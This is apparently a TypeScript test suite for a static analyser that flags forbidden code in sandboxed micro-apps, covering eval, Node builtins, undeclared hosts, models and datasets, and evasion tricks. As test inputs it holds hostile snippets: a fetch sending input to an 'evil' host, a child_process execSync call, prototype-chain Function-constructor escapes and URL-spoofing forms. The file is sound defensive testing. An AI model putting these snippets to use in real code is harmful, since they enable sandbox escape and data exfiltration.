// Static analysis finds what a micro-app must not do, with file, line and fix; hostile inputs included.
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { analyzeCode, stringLiterals } from './static-analysis.js';
import { manifest, testCatalog } from './testing/fixtures.js';
import { hostMatches } from './hosts.js';

const catalog = testCatalog();
const run = (code: Record<string, string>, spec = {}) =>
  analyzeCode({
    manifest: manifest({
      spec: {
        runtime: { tier: 'wasm', entrypoint: 'main.js', files: Object.keys(code).filter((f) => f !== 'main.js') },
        ...spec,
      },
    }),
    code,
    catalog,
  });
const rules = (fs: ReturnType<typeof run>) => fs.map((f) => `${f.rule}@${f.file}:${f.line}`);

describe('analyzeCode', () => {
  it('passes a clean app that only uses ctx', () => {
    const fs = run({
      'main.js':
        "export async function main(input, ctx) {\n  const r = await ctx.llm.chat({ model: 'small-chat', messages: [{ role: 'user', content: input.q }] });\n  return r.text;\n}\n",
    });
    assert.deepEqual(fs, []);
  });

  it('flags eval, new Function, dynamic import and string timers with their lines', () => {
    const fs = run({
      'main.js': [
        'export async function main(input) {',
        '  eval(input.code);',
        "  const f = new Function('a', 'return a');",
        "  await import('./x.js');",
        "  setTimeout('alert(1)', 10);",
        '  const e = globalThis["ev" + "al"];',
        '  return f;',
        '}',
      ].join('\n'),
    });
    assert.deepEqual(
      rules(fs).filter((r) => r.startsWith('dynamic-code')),
      ['dynamic-code@main.js:2', 'dynamic-code@main.js:3', 'dynamic-code@main.js:4', 'dynamic-code@main.js:5'],
    );
    assert.ok(rules(fs).includes('ambient-api@main.js:6'), 'globalThis is flagged too');
    assert.ok(fs.every((f) => f.fix.length > 10));
  });

  it('flags node builtins by import, require and export-from, and ambient globals', () => {
    const fs = run(
      {
        'main.js': [
          "import { readFileSync } from 'node:fs';",
          "import cp from 'child_process';",
          "export { connect } from 'net';",
          "const os = require('os');",
          'export function main() { return process.env.SECRET + fetch("https://api.openai.com"); }',
        ].join('\n'),
      },
      { egress: ['api.openai.com'] },
    );
    assert.deepEqual(rules(fs), [
      'ambient-api@main.js:1',
      'ambient-api@main.js:2',
      'ambient-api@main.js:3',
      'ambient-api@main.js:4',
      'ambient-api@main.js:5',
      'ambient-api@main.js:5',
    ]);
  });

  it('does not flag a local variable or a property that shares a global name', () => {
    const fs = run({
      'main.js':
        'export function main(input) { const process = input.steps; return { fetch: 1, eval: process, x: input.process }; }',
    });
    assert.deepEqual(fs, []);
  });

  it('flags hosts not declared in spec.egress, honouring wildcards and ports', () => {
    const code = {
      'main.js': [
        'export async function main(input, ctx) {',
        "  await ctx.http.fetch('https://api.weather.example.com/v1?q=' + input.city);",
        '  await ctx.http.fetch(`https://evil.example.org/${input.x}`);',
        "  await ctx.http.fetch('http://files.example.com:8080/a');",
        '}',
      ].join('\n'),
    };
    const fs = run(code, { egress: ['*.example.com'] });
    assert.deepEqual(rules(fs), ['undeclared-host@main.js:3', 'undeclared-host@main.js:4']);
    assert.match(fs[0].message, /evil\.example\.org/);
    assert.match(fs[0].fix, /spec\.egress/);
  });

  it('flags models and datasets named in code but not declared', () => {
    const fs = run({
      'main.js':
        "export async function main(i, ctx) {\n  await ctx.llm.chat({ model: 'big-reasoner' });\n  return ctx.data.query('customers', 'select *');\n}",
    });
    assert.deepEqual(rules(fs), ['undeclared-model@main.js:2', 'undeclared-dataset@main.js:3']);
  });

  it('parses TypeScript with exact lines and reports syntax errors', () => {
    const ts = run(
      {
        'main.ts':
          'interface In { q: string }\n\nexport function main(i: In): string {\n  return eval(i.q) as string;\n}\n',
      },
      { runtime: { tier: 'wasm', entrypoint: 'main.ts', files: [] } },
    );
    assert.deepEqual(rules(ts), ['dynamic-code@main.ts:4']);
    const bad = run({ 'main.js': 'export function main( {\n  return 1;\n' });
    assert.ok(bad.some((f) => f.rule === 'syntax-error'));
  });

  it('flags imports of files the manifest does not list, and missing declared files', () => {
    const fs = run({
      'main.js': "import { x } from './util.js';\nimport y from './other.js';\nexport const main = () => x + y;",
      'util.js': 'export const x = 1;',
    });
    assert.deepEqual(rules(fs), ['undeclared-file@main.js:2']);
    const missing = analyzeCode({
      manifest: manifest({ spec: { runtime: { tier: 'wasm', entrypoint: 'main.js', files: ['gone.js'] } } }),
      code: { 'main.js': 'export const main = () => 1;' },
      catalog,
    });
    assert.deepEqual(
      missing.map((f) => f.rule),
      ['missing-file'],
    );
  });

  it('collects string literals with lines for the PII scan', () => {
    assert.deepEqual(
      stringLiterals({ 'a.js': "const a = 'x';\nconst b = `y ${a} z`;" }).map((l) => [l.line, l.text]),
      [
        [1, 'x'],
        [2, 'y '],
        [2, ' z'],
      ],
    );
  });
});

describe('hostMatches', () => {
  it('matches exact hosts and subdomain wildcards, never the apex or a suffix trick', () => {
    assert.equal(hostMatches('api.example.com', 'api.example.com'), true);
    assert.equal(hostMatches('a.example.com', '*.example.com'), true);
    assert.equal(hostMatches('example.com', '*.example.com'), false);
    assert.equal(hostMatches('evilexample.com', '*.example.com'), false);
    assert.equal(hostMatches('api.example.com.evil.io', 'api.example.com'), false);
    assert.equal(hostMatches('api.example.com:8443', 'api.example.com'), false);
    assert.equal(hostMatches('api.example.com:443', 'https://api.example.com/v1'), true);
  });
});

describe('analyzeCode against evasion', () => {
  const one = (src: string, spec = {}) => run({ 'main.js': src }, spec).map((f) => `${f.rule}@${f.line}`);

  it('catches the Function constructor reached through the prototype chain', () => {
    assert.deepEqual(one("export const main = () => ({}).constructor.constructor('return process')();"), [
      'dynamic-code@1',
    ]);
    assert.deepEqual(one("export const main = () => main['constructor']['constructor']('return 1')();"), [
      'dynamic-code@1',
    ]);
    assert.deepEqual(one('export const main = async () => (async () => {}).constructor("return 1")();'), [
      'dynamic-code@1',
    ]);
  });

  it('catches eval used indirectly and builtins via require in an expression', () => {
    assert.deepEqual(one('export const main = (i) => (0, eval)(i.x);'), ['dynamic-code@1']);
    assert.deepEqual(one("export const main = () => require('node:child_process').execSync('id');"), ['ambient-api@1']);
  });

  it('sees through userinfo, ports and websocket schemes in URLs', () => {
    assert.deepEqual(
      one("export const main = (i, ctx) => ctx.http.fetch('https://api.example.com@evil.io/x');", {
        egress: ['api.example.com'],
      }),
      ['undeclared-host@1'],
    );
    assert.deepEqual(
      one("export const main = (i, ctx) => ctx.http.fetch('https://api.example.com:8443/x');", {
        egress: ['api.example.com'],
      }),
      ['undeclared-host@1'],
    );
    assert.deepEqual(
      one("export const main = (i, ctx) => ctx.http.fetch('https://api.example.com:443/x');", {
        egress: ['api.example.com'],
      }),
      [],
    );
    assert.deepEqual(one("export const main = (i, ctx) => ctx.http.fetch('wss://stream.evil.io/');"), [
      'undeclared-host@1',
    ]);
  });
});
